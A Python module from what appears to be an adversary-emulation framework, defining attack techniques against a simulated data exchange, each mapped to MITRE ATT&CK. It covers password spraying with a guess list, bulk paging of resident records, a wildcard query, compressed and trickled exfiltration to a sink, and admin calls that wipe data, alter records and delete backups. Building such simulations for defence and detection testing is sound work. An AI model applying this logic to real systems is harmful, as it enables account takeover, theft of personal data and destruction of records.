# Techniques against a data exchange: guessing passwords, a valid account, rows in bulk, and
# bringing them out at once or little by little.
from __future__ import annotations

import json
import zlib

from policies import AttackStep, Fidelity, Title

from .archive import form_of
from .exchange import EXCHANGE_PORT, SINK_PORT
from .http import parse_response, request
from .technique import Attacker, Play, Seen, Technique, number
from .wire import Link, NoAnswerError

__all__ = ["EXCHANGE_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
_ANY = "application/octet-stream"
_KINDS = {"zip": "application/zip", "tar.gz": "application/gzip"}
# Guesses of those who try one password on everyone before the next.
_GUESSES = ("123456", "Admin@123", "Xian2026", "Aa123456", "Gov@2026")


async def _spray(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Few passwords, each on every account, so that no account locks."""
    accounts = str(step.parameters.get("accounts", "")).split()
    for password in _GUESSES:
        for account in accounts:
            token = await _signed_in(attacker, target, account, password)
            if token:
                attacker.loot["account"] = [account.encode(), password.encode()]
                return
            await attacker.clock.sleep(
                number(step, "pause_s", 4) * attacker.random.uniform(0.5, 1.5)
            )


async def _sign_in(attacker: Attacker, step: AttackStep, target: str) -> None:
    """With what an earlier step found out, or the plan has from elsewhere."""
    found = (each.decode() for each in attacker.loot.get("account", [b"", b""]))
    account, password = found
    account = str(step.parameters.get("account", account))
    password = str(step.parameters.get("password", password))
    token = await _signed_in(attacker, target, account, password)
    if token:
        attacker.loot["token"] = [token.encode()]


async def _signed_in(attacker: Attacker, target: str, account: str, password: str) -> str:
    body = json.dumps({"account": account, "password": password}).encode()
    link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
    reply = parse_response(await link.ask(request("POST", "/sign-in", target, body=body)))
    await link.close()
    return str(json.loads(reply.body)["token"]) if reply.status == 200 else ""


async def _bulk_pull(attacker: Attacker, step: AttackStep, target: str) -> None:
    """Page after page, until the set is through or the platform says no."""
    token = attacker.loot.get("token", [b""])[0].decode()
    page = int(number(step, "page", 200))
    link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
    for first in range(0, int(number(step, "rows", 1000)), page):
        path = f"/residents?offset={first}&limit={page}"
        reply = parse_response(await link.ask(request("GET", path, target, token=token)))
        if reply.status != 200:
            break
        attacker.loot.setdefault("rows", []).append(reply.body)
        await attacker.clock.sleep(number(step, "pause_s", 5) * attacker.random.uniform(0.5, 1.5))
    await link.close()


async def _broad_query(attacker: Attacker, step: AttackStep, target: str) -> None:
    """The public form asked with a wildcard, which it ought not to take."""
    link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
    for _ in range(int(number(step, "times", 1))):
        reply = parse_response(await link.ask(request("GET", "/search?name=%25", target)))
        if reply.status == 200:
            attacker.loot.setdefault("rows", []).append(reply.body)
        await attacker.clock.sleep(number(step, "pause_s", 5))
    await link.close()


def _administers(path: str) -> Play:
    """A step that asks the platform, with the account at hand, for what only administrators may."""

    async def play(attacker: Attacker, step: AttackStep, target: str) -> None:
        token = attacker.loot.get("token", [b""])[0].decode()
        rows = int(number(step, "rows", 100))
        link = await attacker.wire.open(attacker.address, target, EXCHANGE_PORT)
        asked = f"{path}?rows={rows}" if path.endswith("alter") else path
        await link.ask(request("POST", asked, target, token=token))
        await link.close()

    return play


async def _exfiltrate(attacker: Attacker, step: AttackStep, target: str) -> None:
    """All that is at hand, compressed, in one piece; or a file of the host, as it is."""
    name = str(step.parameters.get("file", ""))
    if name and name not in attacker.disk:
        raise NoAnswerError(f"there is no file {name}")
    rows = attacker.loot.get("rows", [])
    content = attacker.disk.read(name) if name else zlib.compress(b"\n".join(rows))
    link = await attacker.wire.open(attacker.address, target, SINK_PORT)
    await _send(link, target, content, _KINDS.get(form_of(content), _ANY))
    await link.close()


async def _trickle(attacker: Attacker, step: AttackStep, target: str) -> None:
    """A page at a time, as pages come, with long pauses."""
    sent = 0
    for _ in range(int(number(step, "pieces", 20))):
        waiting = attacker.loot.get("rows", [])
        if sent < len(waiting):
            link = await attacker.wire.open(attacker.address, target, SINK_PORT)
            await _send(link, target, zlib.compress(waiting[sent]))
            await link.close()
            sent += 1
        await attacker.clock.sleep(number(step, "pause_s", 20) * attacker.random.uniform(0.7, 1.3))


async def _send(link: Link, target: str, body: bytes, kind: str = _ANY) -> None:
    await link.ask(request("POST", "/upload", target, body=body, kind=kind))


def _account_taken(_step: AttackStep, seen: Seen) -> bool:
    return seen.sign_ins > 0


def _rows_taken(step: AttackStep, seen: Seen) -> bool:
    return seen.served >= number(step, "rows", 1000)


def _rows_open(_step: AttackStep, seen: Seen) -> bool:
    return seen.served_openly > 0


def _rows_lost(_step: AttackStep, seen: Seen) -> bool:
    return seen.lost > 0


def _backups_gone(_step: AttackStep, seen: Seen) -> bool:
    return seen.backups_gone > 0


def _rows_out(_step: AttackStep, seen: Seen) -> bool:
    return seen.leaked > 0 or seen.masked > 0


EXCHANGE_TECHNIQUES = {
    "spray": Technique(
        {"T1110.003": Title(zh="密码喷洒", en="Password Spraying")},
        _EVERYWHERE, _spray, _account_taken,
    ),
    "sign-in": Technique(
        {
            "T1078": Title(zh="有效账户", en="Valid Accounts"),
            "T0859": Title(zh="有效账户", en="Valid Accounts"),
            "T1021": Title(zh="远程服务", en="Remote Services"),
            "T0886": Title(zh="远程服务", en="Remote Services"),
        },
        _EVERYWHERE, _sign_in, _account_taken,
    ),
    "bulk-pull": Technique(
        {
            "T1213": Title(zh="信息库数据", en="Data from Information Repositories"),
            "T1213.006": Title(zh="数据库", en="Databases"),
        },
        _EVERYWHERE, _bulk_pull, _rows_taken,
    ),
    "exfiltrate": Technique(
        {
            "T1048.003": Title(zh="经其他未加密协议外传", en="Exfiltration Over Unencrypted Non-C2 Protocol"),
            "T1041": Title(zh="经C2信道外传", en="Exfiltration Over C2 Channel"),
        },
        _EVERYWHERE, _exfiltrate, _rows_out,
    ),
    "trickle": Technique(
        {
            "T1030": Title(zh="限制数据传输大小", en="Data Transfer Size Limits"),
            "T1029": Title(zh="定时传输", en="Scheduled Transfer"),
        },
        _EVERYWHERE, _trickle, _rows_out,
    ),
    "broad-query": Technique(
        {"T1190": Title(zh="利用面向公众的应用", en="Exploit Public-Facing Application")},
        _EVERYWHERE, _broad_query, _rows_open,
    ),
    "wipe": Technique(
        {
            "T1485": Title(zh="数据销毁", en="Data Destruction"),
            "T1486": Title(zh="为造成影响而加密数据", en="Data Encrypted for Impact"),
        },
        _EVERYWHERE, _administers("/admin/wipe"), _rows_lost,
    ),
    "alter-records": Technique(
        {"T1565.001": Title(zh="篡改存储数据", en="Stored Data Manipulation")},
        _EVERYWHERE, _administers("/admin/alter"), _rows_lost,
    ),
    "delete-backups": Technique(
        {"T1490": Title(zh="阻止系统恢复", en="Inhibit System Recovery")},
        _EVERYWHERE, _administers("/admin/backups/delete"), _backups_gone,
    ),
}  # fmt: skip
